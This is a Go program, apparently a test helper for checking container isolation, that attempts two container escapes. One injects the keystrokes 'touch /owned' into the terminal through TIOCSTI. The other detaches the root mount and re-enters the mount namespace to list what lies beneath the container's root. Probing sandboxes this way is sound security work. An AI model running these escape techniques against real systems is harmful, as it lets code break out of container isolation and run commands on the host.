// Command attacker does from inside a container what a container must not be able to
// do, and prints what comes of it.
package main

import (
	"cmp"
	"fmt"
	"os"
	"runtime"

	"golang.org/x/sys/unix"
)

func main() {
	attacks := map[string]func() error{"tiocsti": typeIn, "beneath": lookBeneath}
	if len(os.Args) != 2 || attacks[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "attacker: want tiocsti or beneath")
		os.Exit(2)
	}
	if err := attacks[os.Args[1]](); err != nil {
		fmt.Println(err)
	}
}

// typeIn types into the terminal that is standard input: ioctl_tty(2).
func typeIn() error {
	for _, c := range "touch /owned\n" {
		if err := unix.IoctlSetPointerInt(0, unix.TIOCSTI, int(c)); err != nil {
			return err
		}
	}
	fmt.Println("typed")
	return nil
}

// lookBeneath unmounts the root and enters its own mount namespace again, whose top is
// then what was under the root: setns(2).
func lookBeneath() error {
	runtime.LockOSThread()
	own, err := unix.Open("/proc/self/ns/mnt", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	if err := cmp.Or(unix.Unshare(unix.CLONE_FS), unix.Unmount("/", unix.MNT_DETACH), unix.Setns(own, unix.CLONE_NEWNS)); err != nil {
		return err
	}
	top, err := unix.Open("/", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	entries, err := os.NewFile(uintptr(top), "/").ReadDir(-1)
	fmt.Println(entries)
	return err
}
